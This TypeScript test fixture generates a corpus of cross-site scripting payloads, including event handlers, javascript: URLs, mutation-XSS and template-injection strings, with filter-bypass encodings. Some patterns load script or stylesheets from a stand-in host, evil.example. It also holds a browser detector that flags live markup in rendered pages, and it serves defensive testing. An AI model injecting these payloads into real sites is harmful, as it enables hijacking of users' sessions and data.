/** Ways in which markup has become script, one of each kind that is known from reports and cheat sheets. */
const patterns = [
  '<script>ran()</script>',
  '<script src=//evil.example/x.js></script>',
  '<script type=module>ran()</script>',
  '<ScRiPt>ran()</sCrIpT>',
  '<script/x>ran()</script>',
  '<script\n>ran()</script\n>',
  '<<script>ran();//<</script>',
  '<img src=x onerror=ran()>',
  '<img src=x onerror="ran()"',
  '<img/src=x/onerror=ran()>',
  '<img src=`x`onerror=ran()>',
  '<img srcset=x onerror=ran()>',
  '<image href=x onerror=ran()>',
  '<svg onload=ran()>',
  '<svg/onload=ran()>',
  '<svg><script>ran()</script></svg>',
  '<svg><animate onbegin=ran() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:ran()"><text y=9>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=ran()>#x"/></svg>',
  '<svg><foreignObject><iframe src=javascript:ran()></foreignObject></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=ran()>',
  '<math href=javascript:ran()>x</math>',
  '<body onload=ran()>',
  '<body background=javascript:ran()>',
  '<iframe src=javascript:ran()>',
  '<iframe srcdoc="<script>ran()</script>">',
  '<object data=javascript:ran()>',
  '<object data="data:text/html,<script>ran()</script>">',
  '<embed src=javascript:ran()>',
  '<a href=javascript:ran()>x</a>',
  '<a href="java&#9;script:ran()">x</a>',
  '<a href="&#x6A;avascript:ran()">x</a>',
  '<a href=" \u0001javascript:ran()">x</a>',
  '<a href="data:text/html,<script>ran()</script>">x</a>',
  '<a href="vbscript:ran()">x</a>',
  '<form action=javascript:ran()><button>x</button></form>',
  '<button formaction=javascript:ran()>x</button>',
  '<input autofocus onfocus=ran()>',
  '<select autofocus onfocus=ran()>',
  '<textarea autofocus onfocus=ran()>',
  '<details open ontoggle=ran()>',
  '<video><source onerror=ran()></video>',
  '<video poster=javascript:ran()></video>',
  '<audio src=x onerror=ran()>',
  '<marquee onstart=ran()>',
  '<meta http-equiv=refresh content="0;url=javascript:ran()">',
  '<base href=//evil.example/>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<link rel=import href=//evil.example/x>',
  '<style>@import"//evil.example/x.css"</style>',
  '<style>*{background:url(javascript:ran())}</style>',
  '<div style="background:url(javascript:ran())">x</div>',
  '<div onpointerenter=ran()>x</div>',
  '<p/onclick=ran() style=position:fixed;inset:0>x',
  '<template><script>ran()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=ran()>">',
  '<xmp><p title="</xmp><img src=x onerror=ran()>">',
  '<!--><img src=x onerror=ran()>-->',
  '<![CDATA[<img src=x onerror=ran()>]]>',
  '<?xml version="1.0"?><img src=x onerror=ran()>',
  '<isindex action=javascript:ran() type=submit>',
  '<portal src=javascript:ran()>',
  '{{constructor.constructor("ran()")()}}',
  '{{{ran}}} {{> layout}} {{#with "s" as |x|}}{{lookup x.constructor "name"}}{{/with}}',
  '${ran()} #{ran()} <%= ran() %>',
  'javascript:ran()',
] as const;

/** What ends the place that a text may stand in before it goes on. */
const ways = [
  (text: string) => text,
  (text: string) => `">${text}`,
  (text: string) => `'>${text}`,
  (text: string) => `</textarea>${text}`,
  (text: string) => `</title></style></script>${text}`,
  (text: string) => `--> ]]> */ ${text}`,
  (text: string) => `" autofocus onfocus=ran() x="${text}`,
  (text: string) => `' autofocus onfocus=ran() x='${text}`,
  (text: string) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text: string) => text.replaceAll('<', '&#60').replaceAll('>', '&#62'),
  (text: string) => encodeURIComponent(text),
  (text: string) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
  (text: string) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (text: string) => text.replaceAll('<', '<\u0000'),
  (text: string) => text.toUpperCase(),
  (text: string) => `漏水${text}。`,
] as const;

/** A thousand texts that must stay text, each another one. */
export const xssPayloads: readonly string[] = [
  ...new Set(ways.flatMap((way) => patterns.map((pattern) => way(pattern)))),
].slice(0, 1000);

/**
 * For a browser: what in these pages could do more than be read. Given as text, for it is run there.
 * `pages` are whole documents of ours.
 */
export const findsAlive = `(pages) => pages.flatMap((html) => {
  const page = new DOMParser().parseFromString(html, 'text/html');
  return [...page.querySelectorAll('*')].flatMap((element) => {
    const name = element.localName;
    const foreign = ['iframe', 'object', 'embed', 'base', 'portal', 'template', 'math', 'video', 'audio', 'marquee', 'image', 'xmp', 'foreignobject', 'animate', 'use'];
    const isOurs = { script: /^\\/assets\\//.test(element.getAttribute('src') ?? ''), link: /^\\/assets\\//.test(element.getAttribute('href') ?? '') };
    const found = [];
    if (foreign.includes(name)) found.push(name);
    if (name in isOurs && !isOurs[name]) found.push(name);
    if (name === 'style' && !/^\\s*@media/.test(element.textContent)) found.push(name);
    if (name === 'meta' && element.getAttribute('http-equiv')?.toLowerCase() === 'refresh') found.push(name);
    for (const { name: attribute, value } of element.attributes) {
      if (attribute.startsWith('on')) found.push(attribute);
      if (/^(href|src|action|formaction|data|poster|background|srcset|srcdoc|xlink:href)$/.test(attribute) && !/^(\\/|#|https?:|mailto:|tel:|$)/.test(value)) found.push(attribute + '=' + value);
      if (/^(src|srcset|action|formaction)$/.test(attribute) && /evil/.test(value)) found.push(attribute + '=' + value);
    }
    return found;
  });
})`;
